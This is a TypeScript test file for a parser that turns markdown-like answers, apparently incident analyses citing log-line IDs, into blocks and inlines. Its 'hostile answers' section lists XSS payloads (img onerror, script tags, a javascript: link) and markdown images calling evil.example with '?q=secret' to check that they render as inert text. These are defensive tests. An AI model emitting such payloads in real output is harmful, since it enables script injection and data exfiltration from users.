import { describe, expect, it } from 'vitest';
import { fastestOfThree } from '../../../../../test/support/fastest.ts';
import { type Block, MAX_ANSWER_CHARS, parseBlocks } from './blocks.ts';
import { citedIds, MAX_CITED } from './cited.ts';
import { type Inline, parseInlines } from './inline.ts';
import { splitLead } from './lead.ts';

const ID = '0hod394fsfe-29b62';
const OTHER = '0hod394fsff-29b62';

const text = (text: string): Inline => ({ type: 'text', text });
const code = (text: string): Inline => ({ type: 'code', text });
const cite = (id = ID): Inline => ({ type: 'cite', id });
const bold = (...inlines: Inline[]): Inline => ({ type: 'bold', inlines });
const paragraph = (...inlines: Inline[]): Block => ({ type: 'paragraph', inlines });

describe('text', () => {
  it.each<[string, Inline[]]>([
    ['plain', [text('plain')]],
    ['a **b** c', [text('a '), bold(text('b')), text(' c')]],
    ['use `a**b` and ``c`d``', [text('use '), code('a**b'), text(' and '), code('c`d')]],
    [`it failed #${ID}.`, [text('it failed '), cite(), text('.')]],
    [`it failed [#${ID}].`, [text('it failed '), cite(), text('.')]],
    [`[#${ID}, #${OTHER}]`, [text('['), cite(), text(', '), cite(OTHER), text(']')]],
    [`**at #${ID}**`, [bold(text('at '), cite())]],
    [`\`#${ID}\``, [cite()]],
    [`<*> and #1 and issue#${ID} and #${ID}0`, [text(`<*> and #1 and issue#${ID} and #${ID}0`)]],
    ['2 ** 3 is 8, a `b', [text('2 ** 3 is 8, a `b')]],
  ])('%s', (given, inlines) => expect(parseInlines(given)).toEqual(inlines));
});

describe('blocks', () => {
  it('are paragraphs, headings, lists, code and tables', () => {
    const answer = [
      '# What happened',
      'One line,',
      'and its rest.',
      '- first',
      '  goes on',
      '  - **deep**',
      '',
      '2. second',
      '---',
      '```sh',
      '# not a heading',
      '```',
      '| app | lines |',
      '|---|---:|',
      `| api | #${ID} |`,
      '> said',
    ].join('\n');
    expect(parseBlocks(answer)).toEqual([
      { type: 'heading', inlines: [text('What happened')] },
      paragraph(text('One line, and its rest.')),
      {
        type: 'list',
        items: [
          { mark: '•', depth: 0, inlines: [text('first goes on')] },
          { mark: '•', depth: 1, inlines: [bold(text('deep'))] },
          { mark: '2.', depth: 0, inlines: [text('second')] },
        ],
      },
      { type: 'code', text: '# not a heading' },
      { type: 'table', head: [[text('app')], [text('lines')]], rows: [[[text('api')], [cite()]]] },
      paragraph(text('said')),
    ]);
  });

  it('hold while they are being written: what is not closed yet is shown as it is', () => {
    expect(parseBlocks('It is **the di')).toEqual([paragraph(text('It is **the di'))]);
    expect(parseBlocks('```\nerror: a')).toEqual([{ type: 'code', text: 'error: a' }]);
    expect(parseBlocks('| a | b |')).toEqual([paragraph(text('| a | b |'))]);
    expect(parseBlocks('')).toEqual([]);
  });
});

describe('hostile answers', () => {
  it.each<[string, Inline[]]>([
    ['<img src=x onerror=alert(1)>', [text('<img src=x onerror=alert(1)>')]],
    ['<script>alert(1)</script>', [text('<script>alert(1)</script>')]],
    ['![x](https://evil.example/?q=secret)', [text('x (https://evil.example/?q=secret)')]],
    ['![](https://evil.example/a.png)', [text('https://evil.example/a.png')]],
    ['[press](javascript:alert`1`)', [text('press (javascript:alert`1`)')]],
    ['[hub](https://evil.example)', [text('hub (https://evil.example)')]],
    ['<https://evil.example>', [text('<https://evil.example>')]],
    ['[a]: https://evil.example', [text('[a]: https://evil.example')]],
    ['&lt;b&gt;', [text('&lt;b&gt;')]],
  ])('%s is text', (given, inlines) => expect(parseBlocks(given)).toEqual([paragraph(...inlines)]));

  it.each([
    ['`'],
    ['``a`'],
    ['**'],
    ['**a'],
    ['['],
    ['![]('],
    ['[#'],
    ['#0'],
    ['- '],
    ['-\n'],
    ['> '],
    ['|'],
    ['a|\n|-'],
    ['|-\n'],
    ['```\n'],
    ['1. a\n\n'],
    [' '],
    ['\n'],
    [`#${ID}`],
    [`[x](${'y'.repeat(480)}`],
  ])('a field of %j takes no longer than its length is worth', async (piece) => {
    const field = piece.repeat(Math.ceil(MAX_ANSWER_CHARS / piece.length));
    // Some 10 ms each; what is quadratic takes seconds.
    expect(await fastestOfThree(() => citedIds(parseBlocks(field)))).toBeLessThan(700);
  });

  it('are cut at the bound', () => {
    const [block] = parseBlocks('x'.repeat(MAX_ANSWER_CHARS + 5));
    expect(block).toEqual(paragraph(text('x'.repeat(MAX_ANSWER_CHARS))));
  });

  it('number so many lines and no more', () => {
    const ids = Array.from({ length: MAX_CITED + 5 }, (_, i) => `#${String(i).padStart(11, '0')}-29b62`);
    expect(citedIds(parseBlocks(ids.join(' ')))).toHaveLength(MAX_CITED);
  });
});

it('cited lines are numbered in the order in which they are met first', () => {
  const answer = `- a #${OTHER}\n- **b #${ID}** #${OTHER}\n\n|x|\n|-|\n|#00000000001-29b62|`;
  expect(citedIds(parseBlocks(answer))).toEqual([OTHER, ID, '00000000001-29b62']);
});

describe('the first sentence', () => {
  it.each<[string, string, string]>([
    ['It is the disk. The rest failed.', 'It is the disk.', ' The rest failed.'],
    ['4.2% failed at 02:37:52.113 and', '4.2% failed at 02:37:52.113 and', ''],
    ['Why? Because', 'Why?', ' Because'],
  ])('of %j', (given, lead, rest) => {
    expect(splitLead([text(given)])).toEqual([[text(lead)], rest === '' ? [] : [text(rest)]]);
  });

  it('takes what stands in it along', () => {
    const [lead, rest] = splitLead(parseInlines(`The disk of **db-01** is full #${ID}. Then \`api\` failed.`));
    expect(lead).toEqual([text('The disk of '), bold(text('db-01')), text(' is full '), cite(), text('.')]);
    expect(rest).toEqual([text(' Then '), code('api'), text(' failed.')]);
  });
});
